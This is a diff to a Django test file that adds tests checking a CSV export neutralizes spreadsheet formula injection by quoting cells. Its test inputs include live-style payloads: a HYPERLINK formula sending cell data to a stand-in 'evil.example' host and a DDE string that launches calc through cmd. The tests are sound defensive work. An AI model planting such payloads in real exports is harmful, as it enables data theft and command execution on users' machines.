@@ -6,6 +6,8 @@ changes nothing.
 
 from __future__ import annotations
 
+import csv
+import io
 from collections.abc import Callable
 from html.parser import HTMLParser
 
@@ -54,3 +56,51 @@ def test_atom_summaries_show_a_scripted_name_as_text_not_an_element(
     assert summary.text.endswith(f". Reason: Because {SCRIPT}")
     # The title is plain text in Atom already.
     assert entry.title.startswith(f"{SCRIPT} established")
+
+
+# --- 3. CSV formula injection -----------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ('=HYPERLINK("http://evil")', '\'=HYPERLINK("http://evil")'),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("Finance = money", "Finance = money"),
+        ("", ""),
+        (3, 3),
+    ],
+)
+def test_spreadsheet_safe_quotes_cells_a_spreadsheet_would_evaluate(
+    cell: object, written: object
+) -> None:
+    from api.exports import spreadsheet_safe
+
+    assert spreadsheet_safe(cell) == written
+
+
+@pytest.mark.django_db
+def test_csv_export_neutralizes_formulas_in_every_text_cell(
+    client: Client, make_unit: Callable[..., OrganizationalUnit]
+) -> None:
+    make_unit(
+        '=HYPERLINK("http://evil.example/?"&A1, "Click")',
+        short_name="+SUM(1)",
+        location="@Geneva",
+        mandate="-1+1",
+    )
+
+    response = client.get(f"{API}export/units.csv")
+
+    (row,) = csv.DictReader(io.StringIO(response.content.decode()))
+    assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1, "Click")'
+    assert row["short_name"] == "'+SUM(1)"
+    assert row["location"] == "'@Geneva"
+    assert row["mandate"] == "'-1+1"
+    # Plain values are untouched: a level is still a number.
+    assert row["level"] == "0"
+    assert row["status"] == "active"
